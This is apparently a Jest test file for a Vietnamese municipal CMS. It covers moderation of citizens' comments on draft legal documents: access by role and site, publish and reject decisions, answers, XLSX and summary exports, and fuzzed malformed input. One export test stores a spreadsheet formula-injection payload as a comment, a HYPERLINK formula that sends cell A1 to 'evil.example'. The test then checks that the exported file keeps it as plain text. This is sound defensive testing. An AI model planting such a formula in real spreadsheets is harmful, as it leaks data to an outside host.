// The moderators' side of citizens' comments on drafts (plugins/participation): who may, what
// each decision does, what it refuses, the rebuild it queues, and the staff exports. Comments are
// stored with the query engine as the public route would store them.
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { textProblem } from '../src/security/text-input';
import { startCms, type TestCms } from './harness/cms';
import {
  addComment,
  ALL_ROLES,
  buildParticipationWorld,
  clearJobs,
  LEGAL,
  makeDraft,
  queuedJobs,
  storedComment,
  type ParticipationWorld,
  type StoredComment,
} from './harness/moderation-world';
import { propertyRuns } from './harness/property';
import type { AdminApi } from './harness/workflow';

const binary = (res: unknown, done: (error: Error | null, body: unknown) => void) => {
  const stream = res as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  stream.on('end', () => done(null, Buffer.concat(chunks)));
};

/** A Vietnamese sentence: the refusals are for editors, in their language. */
const VIETNAMESE = /[ăâđêôơưàáạảãèéẹẻẽìíịỉĩòóọỏõùúụủũỳýỵỷỹ]/i;

/** What a stored comment looks like to compare "nothing changed". */
const snapshot = (row: StoredComment) => ({
  status: row.status,
  rejectReason: row.rejectReason,
  answer: row.answer,
  answeredAt: row.answeredAt,
  moderatedAt: row.moderatedAt,
  moderatedBy: row.moderatedBy,
  updatedAt: row.updatedAt,
});

describe('participation moderation', () => {
  let cms: TestCms;
  let world: ParticipationWorld;
  let editorA: AdminApi;
  let superJwt: string;

  beforeAll(async () => {
    cms = await startCms();
    world = await buildParticipationWorld(cms);
    editorA = world.users['editor@A'];
    superJwt = await cms.adminJwt();
  });
  afterAll(async () => {
    await cms?.close();
  });

  describe('participation: who may moderate (role × site on every route)', () => {
    /** Every caller: each workflow role on ward A and on ward B, the super admin, and nobody signed in. */
    const callers = (): Array<{ who: string; api: AdminApi | null; moderator: boolean; allowed: boolean }> => [
      ...ALL_ROLES.flatMap((role) =>
        (['A', 'B'] as const).map((site) => ({
          who: `${role}@${site}`,
          api: world.users[`${role}@${site}`],
          moderator: role === 'editor' || role === 'approver',
          allowed: site === 'A' && (role === 'editor' || role === 'approver'),
        }))
      ),
      { who: 'super admin', api: world.superAdmin, moderator: true, allowed: true },
      { who: 'no token', api: null, moderator: false, allowed: false },
    ];

    /** Ward A's routes; each call is valid, so only who calls decides the answer. */
    const routes = (commentId: number) => {
      const draft = world.sites.A.draft;
      return [
        { name: 'list drafts', method: 'get' as const, url: '/participation/drafts' },
        { name: 'comments', method: 'get' as const, url: `/participation/drafts/${draft}/comments?status=pending&page=1` },
        { name: 'summary', method: 'get' as const, url: `/participation/drafts/${draft}/summary` },
        { name: 'export', method: 'get' as const, url: `/participation/drafts/${draft}/export` },
        { name: 'publish', method: 'post' as const, url: `/participation/comments/${commentId}/publish`, body: {} },
        { name: 'reject', method: 'post' as const, url: `/participation/comments/${commentId}/reject`, body: { reason: 'spam' } },
        { name: 'answer', method: 'put' as const, url: `/participation/comments/${commentId}/answer`, body: { answer: 'Xin tiếp thu.' } },
      ];
    };

    it('lets the editors and approvers of the draft’s site and super admins in, refuses everyone else with a Vietnamese 403 (401 without a token), and a refused call changes nothing', async () => {
      const outcomes: string[] = [];
      const expected: string[] = [];
      for (const caller of callers()) {
        for (let index = 0; index < 7; index += 1) {
          // A fresh pending comment per call, so an allowed decision is always a valid one.
          const comment = await addComment(cms, world.sites.A);
          const route = routes(comment.id)[index];
          const before = snapshot(await storedComment(cms, comment.id));
          const response = caller.api
            ? route.method === 'get'
              ? await caller.api.get(route.url)
              : await caller.api[route.method](route.url, route.body)
            : await cms
                .http()
                [route.method](route.url)
                .send(route.body ?? {});
          outcomes.push(`${caller.who} ${route.name} → ${response.status}`);
          // The draft list is every moderator's own: ward B's editors get theirs (without ward A's draft, below).
          const allowed = route.name === 'list drafts' ? caller.moderator : caller.allowed;
          expected.push(`${caller.who} ${route.name} → ${allowed ? 200 : caller.api ? 403 : 401}`);
          if (response.status === 403) expect(response.body.error.message).toMatch(VIETNAMESE);
          if (!allowed) expect(snapshot(await storedComment(cms, comment.id))).toEqual(before);
        }
      }
      expect(outcomes).toEqual(expected);
    });

    it('refuses a comment and a draft of another site even by id, and does not list them', async () => {
      const theirs = await addComment(cms, world.sites.B);
      const before = snapshot(await storedComment(cms, theirs.id));
      for (const who of ['editor@A', 'approver@A']) {
        const api = world.users[who];
        const refusals = [
          await api.post(`/participation/comments/${theirs.id}/publish`),
          await api.post(`/participation/comments/${theirs.id}/reject`, { reason: 'spam' }),
          await api.put(`/participation/comments/${theirs.id}/answer`, { answer: 'Không phải việc của tôi.' }),
          await api.get(`/participation/drafts/${world.sites.B.draft}/comments`),
          await api.get(`/participation/drafts/${world.sites.B.draft}/summary`),
          await api.get(`/participation/drafts/${world.sites.B.draft}/export`),
        ];
        expect(refusals.map((r) => r.status)).toEqual([403, 403, 403, 403, 403, 403]);
        for (const refusal of refusals) expect(refusal.body.error.message).toMatch(VIETNAMESE);
        const listed = (await api.get('/participation/drafts').expect(200)).body.data.drafts as Array<{ documentId: string }>;
        expect(listed.map((d) => d.documentId)).toContain(world.sites.A.draft);
        expect(listed.map((d) => d.documentId)).not.toContain(world.sites.B.draft);
      }
      expect(snapshot(await storedComment(cms, theirs.id))).toEqual(before);
      const all = (await world.superAdmin.get('/participation/drafts').expect(200)).body.data.drafts as Array<{ documentId: string }>;
      expect(all.map((d) => d.documentId)).toEqual(expect.arrayContaining([world.sites.A.draft, world.sites.B.draft]));
    });

    it('gives the moderation action (the menu link) to the editor and approver admin roles only', async () => {
      const holds = async (who: string) => {
        const permissions = (await world.users[who].get('/admin/users/me/permissions').expect(200)).body.data as Array<{ action: string }>;
        return permissions.some((p) => p.action === 'plugin::participation.moderate');
      };
      const held = Object.fromEntries(await Promise.all(ALL_ROLES.map(async (role) => [role, await holds(`${role}@A`)] as const)));
      expect(held).toEqual({ contributor: false, editor: true, approver: true, 'site-admin': false, 'board-head': false, finance: false });
    });
  });

  describe('participation: moderation decisions', () => {
    it('publishes a pending comment, withdraws it with a reason, publishes it again, and records who and when', async () => {
      const comment = await addComment(cms, world.sites.A);
      const published = (await editorA.post(`/participation/comments/${comment.id}/publish`).expect(200)).body.data;
      expect(published).toMatchObject({ id: comment.id, status: 'published', rejectReason: null, moderatedBy: 'editor@A Thử' });
      expect(Date.now() - new Date(published.moderatedAt).getTime()).toBeLessThan(60_000);

      const again = await editorA.post(`/participation/comments/${comment.id}/publish`).expect(400);
      expect(again.body.error.message).toBe('Góp ý đang ở trạng thái “Đã đăng”: không thể đăng.');

      const approver = world.users['approver@A'];
      const withdrawn = (await approver.post(`/participation/comments/${comment.id}/reject`, { reason: 'duplicate' }).expect(200)).body
        .data;
      expect(withdrawn).toMatchObject({ status: 'rejected', rejectReason: 'duplicate', moderatedBy: 'approver@A Thử' });
      const twice = await approver.post(`/participation/comments/${comment.id}/reject`, { reason: 'spam' }).expect(400);
      expect(twice.body.error.message).toMatch(/Không đăng/);
      expect((await storedComment(cms, comment.id)).rejectReason).toBe('duplicate');

      const back = (await editorA.post(`/participation/comments/${comment.id}/publish`).expect(200)).body.data;
      expect(back).toMatchObject({ status: 'published', rejectReason: null, moderatedBy: 'editor@A Thử' });
    });

    it('rejects a pending comment with each reason and refuses an unknown reason', async () => {
      for (const reason of ['spam', 'offensive', 'duplicate', 'off-topic']) {
        const comment = await addComment(cms, world.sites.A);
        const rejected = (await editorA.post(`/participation/comments/${comment.id}/reject`, { reason }).expect(200)).body.data;
        expect(rejected).toMatchObject({ status: 'rejected', rejectReason: reason });
      }
      const comment = await addComment(cms, world.sites.A);
      const refused = await editorA.post(`/participation/comments/${comment.id}/reject`, { reason: 'boring' }).expect(400);
      expect(refused.body.error.message).toMatch(/^Lý do không đăng phải là một trong/);
      expect((await storedComment(cms, comment.id)).status).toBe('pending');
    });

    it('answers any comment with NFC text, trimmed, and an empty answer removes it', async () => {
      for (const status of ['pending', 'published', 'rejected'] as const) {
        const comment = await addComment(cms, world.sites.A, { status, ...(status === 'rejected' ? { rejectReason: 'off-topic' } : {}) });
        // "Tiếp thu" typed with combining marks, as some keyboards on macOS send it.
        const decomposed = '  Tiếp thu ý kiến, sẽ bổ sung vào Điều 5.\n  '.normalize('NFD');
        const answered = (await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: decomposed }).expect(200)).body.data;
        expect(answered.answer).toBe('Tiếp thu ý kiến, sẽ bổ sung vào Điều 5.');
        expect(answered.answer).toBe(answered.answer.normalize('NFC'));
        expect(answered.answeredAt).not.toBeNull();
        expect(answered.status).toBe(status);
        const stored = await storedComment(cms, comment.id);
        expect(stored.answer).toBe('Tiếp thu ý kiến, sẽ bổ sung vào Điều 5.');

        const removed = (await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: '   ' }).expect(200)).body.data;
        expect(removed).toMatchObject({ answer: null, answeredAt: null, status });
      }
    });

    it('answers with 5000 characters and refuses 5001', async () => {
      const comment = await addComment(cms, world.sites.A);
      const longest = 'ý'.repeat(5000);
      expect((await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: longest }).expect(200)).body.data.answer).toBe(
        longest
      );
      const refused = await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: `${longest}ý` }).expect(400);
      expect(refused.body.error.message).toMatch(/tối đa 5000 ký tự/);
      expect((await storedComment(cms, comment.id)).answer).toBe(longest);
    });

    it('answers 404 for a comment or draft that does not exist and 400 for an id that is not one', async () => {
      await editorA.post('/participation/comments/2147483647/publish').expect(404);
      await editorA.get('/participation/drafts/abcdefghijklmnopqrstuvwx/comments').expect(404);
      for (const id of ['0', '-1', 'abc', '1e3', '01', '2147483648', '99999999999', '1.5']) {
        const refused = await editorA.post(`/participation/comments/${encodeURIComponent(id)}/publish`).expect(400);
        expect(refused.body.error.message).toBe('Mã góp ý phải là một số nguyên dương.');
      }
      // A non-draft legal document is not a draft for comment.
      const other = await world.api
        .post('/api/legal-documents?status=draft', {
          number: `15/QĐ-UBND-${Date.now()}`,
          kind: 'administrative',
          type: 'quyet-dinh',
          issuer: 'UBND phường',
          issuedDate: '2026-01-02',
          summary: 'Quyết định thường.',
          site: world.sites.A.documentId,
        })
        .expect(201);
      await editorA.get(`/participation/drafts/${other.body.data.documentId}/comments`).expect(404);
    });
  });

  describe('participation: what moderators read', () => {
    it('lists the drafts of the moderator’s sites with their counts and window, those with comments waiting first', async () => {
      const quiet = await makeDraft(cms, world.api, world.sites.A.documentId);
      const busy = await makeDraft(cms, world.api, world.sites.A.documentId, {
        commentWindow: {
          opensAt: '2026-01-01T00:00:00.000Z',
          closesAt: '2026-01-31T16:59:59.000Z',
          receivingAgency: 'Phòng Tư pháp',
          address: '89 Lý Thường Kiệt',
          email: 'tuphap@vungtau.test',
        },
      });
      const site = { ...world.sites.A, draft: busy.documentId };
      await addComment(cms, site);
      await addComment(cms, site, { status: 'published' });
      await addComment(cms, site, { status: 'rejected', rejectReason: 'spam' });
      await addComment(cms, site, { status: 'rejected', rejectReason: 'duplicate' });

      const drafts = (await world.users['approver@A'].get('/participation/drafts').expect(200)).body.data.drafts as Array<{
        documentId: string;
        number: string;
        open: boolean;
        opensAt: string;
        closesAt: string;
        site: { slug: string };
        counts: Record<string, number>;
      }>;
      const mine = drafts.find((d) => d.documentId === busy.documentId)!;
      expect(mine).toMatchObject({
        number: busy.number,
        open: false,
        opensAt: '2026-01-01T00:00:00.000Z',
        closesAt: '2026-01-31T16:59:59.000Z',
        site: { slug: world.sites.A.slug },
        counts: { pending: 1, published: 1, rejected: 2 },
      });
      const quietOne = drafts.find((d) => d.documentId === quiet.documentId)!;
      expect(quietOne).toMatchObject({ open: true, counts: { pending: 0, published: 0, rejected: 0 } });
      // Waiting comments first: every draft with a pending comment comes before every one without.
      const pending = drafts.map((d) => d.counts.pending > 0);
      expect(pending).toEqual([...pending].sort((a, b) => Number(b) - Number(a)));
      expect(drafts.indexOf(mine)).toBeLessThan(drafts.indexOf(quietOne));
    });

    it('pages a draft’s comments oldest first, by status, with the contact details moderators need', async () => {
      const draft = await makeDraft(cms, world.api, world.sites.A.documentId);
      const site = { ...world.sites.A, draft: draft.documentId };
      const start = Date.UTC(2026, 11, 1, 1, 0, 0);
      for (let i = 0; i < 23; i += 1)
        await addComment(cms, site, {
          authorName: `Người góp ý ${String(i).padStart(2, '0')}`,
          submittedAt: new Date(start + i * 60_000),
          status: i % 5 === 0 ? 'published' : 'pending',
          email: i === 0 ? 'le.thi.hoa@example.vn' : null,
          phone: i === 0 ? '0987654321' : null,
        });
      const first = (await editorA.get(`/participation/drafts/${draft.documentId}/comments`).expect(200)).body.data;
      expect(first).toMatchObject({
        page: 1,
        pageCount: 2,
        total: 23,
        draft: { documentId: draft.documentId, counts: { pending: 18, published: 5 } },
      });
      expect(first.comments).toHaveLength(20);
      expect(first.comments[0]).toMatchObject({
        authorName: 'Người góp ý 00',
        email: 'le.thi.hoa@example.vn',
        phone: '0987654321',
        contactErased: false,
      });
      const second = (await editorA.get(`/participation/drafts/${draft.documentId}/comments?page=2`).expect(200)).body.data;
      expect(second.comments.map((c: { authorName: string }) => c.authorName)).toEqual([
        'Người góp ý 20',
        'Người góp ý 21',
        'Người góp ý 22',
      ]);
      const published = (await editorA.get(`/participation/drafts/${draft.documentId}/comments?status=published`).expect(200)).body.data;
      expect(published.comments.map((c: { authorName: string }) => c.authorName)).toEqual(
        ['00', '05', '10', '15', '20'].map((n) => `Người góp ý ${n}`)
      );
      const beyond = (await editorA.get(`/participation/drafts/${draft.documentId}/comments?page=9`).expect(200)).body.data;
      expect(beyond).toMatchObject({ comments: [], page: 9, pageCount: 2 });
      // Erased contact details (retention period) are gone for moderators too.
      const erased = await addComment(cms, site, { contactErasedAt: new Date(), submittedAt: new Date(start - 60_000) });
      const after = (await editorA.get(`/participation/drafts/${draft.documentId}/comments`).expect(200)).body.data;
      expect(after.comments[0]).toMatchObject({ id: erased.id, email: null, phone: null, contactErased: true });
    });

    it('exports every comment with its contact details to XLSX, a formula-looking comment kept as text', async () => {
      const draft = await makeDraft(cms, world.api, world.sites.A.documentId);
      const site = { ...world.sites.A, draft: draft.documentId };
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
      await addComment(cms, site, {
        authorName: 'Trần Thị Mai',
        organisation: 'Hội Phụ nữ phường',
        email: 'mai.tran@example.vn',
        phone: '0903111222',
      });
      await addComment(cms, site, {
        authorName: '@Lê Văn Tám',
        body: formula,
        status: 'rejected',
        rejectReason: 'spam',
        email: null,
        phone: '+84 903 333 444',
      });
      const answered = await addComment(cms, site, { authorName: 'Phạm Hùng', status: 'published', showName: false });
      await editorA.put(`/participation/comments/${answered.id}/answer`, { answer: 'Tiếp thu, bổ sung vào Điều 7.' }).expect(200);

      const file = await editorA.get(`/participation/drafts/${draft.documentId}/export`).buffer(true).parse(binary).expect(200);
      expect(file.headers['content-type']).toContain('spreadsheetml');
      expect(file.headers['content-disposition']).toBe(`attachment; filename="gop-y-du-thao-${draft.documentId}.xlsx"`);
      expect(file.headers['cache-control']).toBe('no-store');

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0];
      expect(sheet.getCell('A1').value).toBe('Bảng tổng hợp ý kiến góp ý');
      expect(String(sheet.getCell('A2').value)).toContain(`Dự thảo ${draft.number}`);
      const header = (sheet.getRow(4).values as unknown[]).slice(1);
      expect(header).toEqual([
        'STT',
        'Thời gian gửi',
        'Người góp ý',
        'Cơ quan, tổ chức',
        'E-mail',
        'Điện thoại',
        'Phần dự thảo',
        'Nội dung góp ý',
        'Cho hiện tên',
        'Trạng thái',
        'Lý do không đăng',
        'Ý kiến tiếp thu, giải trình',
        'Thời gian trả lời',
        'Người kiểm duyệt',
        'Thời gian kiểm duyệt',
      ]);
      const column = (name: string) => header.indexOf(name) + 1;
      const rows = [5, 6, 7].map((n) => sheet.getRow(n));
      expect(rows.map((r) => r.getCell(column('Người góp ý')).value)).toEqual(['Trần Thị Mai', '@Lê Văn Tám', 'Phạm Hùng']);
      expect(rows[0].getCell(column('E-mail')).value).toBe('mai.tran@example.vn');
      expect(rows[0].getCell(column('Điện thoại')).value).toBe('0903111222');
      expect(rows[0].getCell(column('Cơ quan, tổ chức')).value).toBe('Hội Phụ nữ phường');
      expect(rows[1].getCell(column('Điện thoại')).value).toBe('+84 903 333 444');
      expect(rows[1].getCell(column('Trạng thái')).value).toBe('Không đăng');
      expect(rows[1].getCell(column('Lý do không đăng')).value).toBe('Thư rác, quảng cáo');
      expect(rows[2].getCell(column('Ý kiến tiếp thu, giải trình')).value).toBe('Tiếp thu, bổ sung vào Điều 7.');
      expect(rows[2].getCell(column('Cho hiện tên')).value).toBe('Không');
      // The formula-looking comment is a string cell holding exactly what was typed: never evaluated.
      const cell = rows[1].getCell(column('Nội dung góp ý'));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(formula);
      const formulas: string[] = [];
      sheet.eachRow((r) => r.eachCell((c) => c.type === ExcelJS.ValueType.Formula && formulas.push(c.address)));
      expect(formulas).toEqual([]);
      expect(sheet.rowCount).toBe(7);
    });

    it('gives the printable summary table: the comments not refused, numbered, with name, organisation, section and answer', async () => {
      const draft = await makeDraft(cms, world.api, world.sites.A.documentId);
      const site = { ...world.sites.A, draft: draft.documentId };
      const start = Date.UTC(2026, 11, 2, 2, 0, 0);
      const a = await addComment(cms, site, {
        authorName: 'Võ Thị Sáu',
        organisation: 'Chi hội Cựu chiến binh',
        section: 'Điều 3',
        submittedAt: new Date(start),
        status: 'published',
      });
      await addComment(cms, site, {
        authorName: 'Kẻ quảng cáo',
        submittedAt: new Date(start + 1000),
        status: 'rejected',
        rejectReason: 'spam',
      });
      const c = await addComment(cms, site, { authorName: 'Đỗ Minh', showName: false, section: null, submittedAt: new Date(start + 2000) });
      await editorA.put(`/participation/comments/${a.id}/answer`, { answer: 'Tiếp thu.' }).expect(200);

      const table = (await editorA.get(`/participation/drafts/${draft.documentId}/summary`).expect(200)).body.data;
      expect(table.draft).toMatchObject({ documentId: draft.documentId, number: draft.number });
      expect(table.rows).toEqual([
        expect.objectContaining({
          no: 1,
          id: a.id,
          authorName: 'Võ Thị Sáu',
          organisation: 'Chi hội Cựu chiến binh',
          section: 'Điều 3',
          answer: 'Tiếp thu.',
          status: 'published',
        }),
        expect.objectContaining({
          no: 2,
          id: c.id,
          authorName: 'Đỗ Minh',
          organisation: null,
          section: null,
          answer: null,
          status: 'pending',
        }),
      ]);
      // The printed table is for the drafting agency's file: no contact details on paper.
      expect(JSON.stringify(table)).not.toMatch(/@example\.vn|0912345678/);
    });
  });

  describe('participation: rebuild of the draft’s page', () => {
    const jobsFor = async () => {
      const jobs = await queuedJobs(cms);
      return jobs.filter((job) => job.siteSlug === world.sites.A.slug);
    };
    const draftChange = () => ({ documents: [{ uid: LEGAL, documentId: world.sites.A.draft }] });

    it('queues the draft’s page when a comment is published, withdrawn or its published answer changes, and not for what the page does not show', async () => {
      const comment = await addComment(cms, world.sites.A);

      await clearJobs(cms);
      await editorA.post(`/participation/comments/${comment.id}/publish`).expect(200);
      let jobs = await jobsFor();
      expect(jobs).toHaveLength(1);
      expect(jobs[0].changes).toEqual(draftChange());
      expect(jobs[0].requestedBy).toBe('editor@A Thử');
      expect(jobs[0].reasons[0]).toMatch(new RegExp(`^đăng góp ý #${comment.id} về dự thảo “`));
      expect(await queuedJobs(cms)).toHaveLength(1);

      await clearJobs(cms);
      await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: 'Xin cảm ơn, tiếp thu.' }).expect(200);
      jobs = await jobsFor();
      expect(jobs.map((j) => j.changes)).toEqual([draftChange()]);
      expect(jobs[0].reasons[0]).toMatch(/^trả lời góp ý/);

      // The same answer again changes nothing, and queues nothing.
      await clearJobs(cms);
      await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: 'Xin cảm ơn, tiếp thu.' }).expect(200);
      expect(await jobsFor()).toEqual([]);

      await editorA.post(`/participation/comments/${comment.id}/reject`, { reason: 'off-topic' }).expect(200);
      jobs = await jobsFor();
      expect(jobs.map((j) => j.changes)).toEqual([draftChange()]);
      expect(jobs[0].reasons[0]).toMatch(/^gỡ góp ý/);

      // Neither a pending comment refused nor an answer to an unpublished comment shows on the page.
      await clearJobs(cms);
      const pending = await addComment(cms, world.sites.A);
      await editorA.put(`/participation/comments/${pending.id}/answer`, { answer: 'Đang xem xét.' }).expect(200);
      await editorA.post(`/participation/comments/${pending.id}/reject`, { reason: 'spam' }).expect(200);
      await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: '' }).expect(200);
      expect(await queuedJobs(cms)).toEqual([]);
    });

    it('queues nothing when a decision is refused', async () => {
      const comment = await addComment(cms, world.sites.A, { status: 'published' });
      await clearJobs(cms);
      await editorA.post(`/participation/comments/${comment.id}/publish`).expect(400);
      await world.users['editor@B'].post(`/participation/comments/${comment.id}/reject`, { reason: 'spam' }).expect(403);
      await editorA.put(`/participation/comments/${comment.id}/answer`, { answer: 'x'.repeat(5001) }).expect(400);
      expect(await queuedJobs(cms)).toEqual([]);
    });
  });

  describe('participation: hostile input (generated)', () => {
    const ANY_JSON = fc.jsonValue({ maxDepth: 3 });
    const huge = fc.integer({ min: 5001, max: 60_000 }).map((n) => 'Ý'.repeat(n));
    /** Objects that look almost right: wrong types, unknown keys, huge strings, control characters. */
    const nearly = (key: string, good: fc.Arbitrary<unknown>) =>
      fc.oneof(
        fc.record({ [key]: fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.string()), fc.object(), huge) }),
        fc
          .tuple(
            good,
            fc.string({ minLength: 1, maxLength: 20 }).filter((k) => k !== key),
            ANY_JSON
          )
          .map(([value, extra, other]) => ({
            [key]: value,
            [extra]: other,
          })),
        fc.dictionary(fc.string({ maxLength: 30 }), ANY_JSON, { minKeys: 1, maxKeys: 5 }).filter((o) => !(key in o)),
        ANY_JSON
      );

    const isValidReject = (body: unknown) =>
      typeof body === 'object' &&
      body !== null &&
      !Array.isArray(body) &&
      Object.keys(body).length === 1 &&
      ['spam', 'offensive', 'duplicate', 'off-topic'].includes((body as { reason?: unknown }).reason as string);
    const isValidAnswer = (body: unknown) =>
      typeof body === 'object' &&
      body !== null &&
      !Array.isArray(body) &&
      Object.keys(body).length === 1 &&
      typeof (body as { answer?: unknown }).answer === 'string' &&
      (body as { answer: string }).answer.length <= 20_000 &&
      (body as { answer: string }).answer.normalize('NFC').trim().length <= 5000 &&
      textProblem((body as { answer: string }).answer) === null;
    const isEmptyObject = (body: unknown) =>
      typeof body === 'object' && body !== null && !Array.isArray(body) && Object.keys(body).length === 0;

    /** Sends a body as raw JSON, whatever its type, and expects a 400 with a message and the comment unchanged. */
    const expectRefused = async (method: 'post' | 'put', url: string, body: unknown, id: number) => {
      const before = snapshot(await storedComment(cms, id));
      const response = await cms
        .http()
        [method](url)
        .set('Authorization', `Bearer ${superJwt}`)
        .set('Content-Type', 'application/json')
        .send(JSON.stringify(body));
      expect(response.status).toBe(400);
      expect(typeof response.body.error?.message).toBe('string');
      expect(response.body.error.message.length).toBeGreaterThan(0);
      expect(response.body.error.message.length).toBeLessThan(400);
      expect(snapshot(await storedComment(cms, id))).toEqual(before);
      return response.body.error.message as string;
    };

    it('refuses every body that is not the declared shape with a 400 and a message, and changes nothing', async () => {
      const comment = await addComment(cms, world.sites.A);
      const messages = new Set<string>();
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            nearly('reason', fc.constantFrom('spam', 'offensive', 'duplicate', 'off-topic')).map((body) => ['reject', body] as const),
            nearly('answer', fc.string({ maxLength: 50 })).map((body) => ['answer', body] as const),
            nearly('x', fc.string()).map((body) => ['publish', body] as const)
          ),
          async ([route, body]) => {
            if (route === 'reject' && isValidReject(body)) return;
            if (route === 'answer' && isValidAnswer(body)) return;
            if (route === 'publish' && (isEmptyObject(body) || body === null)) return;
            const url = `/participation/comments/${comment.id}/${route}`;
            const message = await expectRefused(route === 'answer' ? 'put' : 'post', url, body, comment.id);
            // A body that is not a JSON object or list is refused by Strapi's body parser for every route, in English.
            if (typeof body === 'object' && body !== null) messages.add(message);
          }
        ),
        propertyRuns(60, 'participation moderation bodies')
      );
      for (const message of messages) expect(message).toMatch(VIETNAMESE);
    });

    it('refuses answers holding control characters or a lone surrogate, and huge ones, storing nothing', async () => {
      const comment = await addComment(cms, world.sites.A);
      for (const answer of ['ý'.repeat(5001), ' '.repeat(30_000)]) {
        const message = await expectRefused('put', `/participation/comments/${comment.id}/answer`, { answer }, comment.id);
        expect(message).toMatch(/^Ý kiến tiếp thu, giải trình phải là văn bản/);
      }
      // These are refused for every route before they reach the plugin (src/middlewares/body-text.ts), in Vietnamese too.
      for (const answer of ['Tiếp\u0000thu', 'a\u0007b', '\uD800x', 'x\uDC00', 'a\uFFFF']) {
        const message = await expectRefused('put', `/participation/comments/${comment.id}/answer`, { answer }, comment.id);
        expect(message).toMatch(/^Trường "answer" có ký tự/);
      }
    });

    it('refuses query strings that are not a status and a page', async () => {
      const url = `/participation/drafts/${world.sites.A.draft}/comments`;
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            fc.record({ status: fc.string({ maxLength: 20 }).filter((s) => !['pending', 'published', 'rejected'].includes(s)) }),
            fc.record({
              page: fc.oneof(
                fc.integer({ min: -5, max: 0 }).map(String),
                fc.integer({ min: 1_000_000, max: 2 ** 40 }).map(String),
                fc.string({ maxLength: 10 }).filter((s) => !/^[1-9]\d{0,5}$/.test(s))
              ),
            }),
            fc.dictionary(
              fc.string({ minLength: 1, maxLength: 12 }).filter((k) => !['status', 'page'].includes(k) && /^[\w-]+$/.test(k)),
              fc.string({ maxLength: 12 }),
              { minKeys: 1, maxKeys: 3 }
            )
          ),
          async (query) => {
            const search = new URLSearchParams(query as Record<string, string>).toString();
            const response = await editorA.get(`${url}?${search}`);
            expect(response.status).toBe(400);
            expect(response.body.error.message).toMatch(VIETNAMESE);
          }
        ),
        propertyRuns(40, 'participation moderation queries')
      );
      await editorA.get(`/participation/drafts?page=2`).expect(400);
      await editorA.get(`/participation/drafts/${world.sites.A.draft}/export?format=csv`).expect(400);
      await editorA.get(`/participation/drafts/${'x'.repeat(65)}/comments`).expect(400);
      await editorA.get(`/participation/drafts/ABC-def/comments`).expect(400);
    });
  });
});
